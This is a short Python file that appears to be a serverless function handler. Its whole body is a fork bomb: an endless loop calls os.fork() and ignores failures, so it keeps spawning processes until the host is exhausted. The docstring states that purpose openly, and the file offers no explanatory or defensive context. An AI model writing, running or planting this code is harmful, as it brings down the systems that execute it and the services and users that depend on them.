"""Every process makes processes, for as long as it lives."""

import os


def handler(event, context):
    while True:
        try:
            os.fork()
        except OSError:
            pass
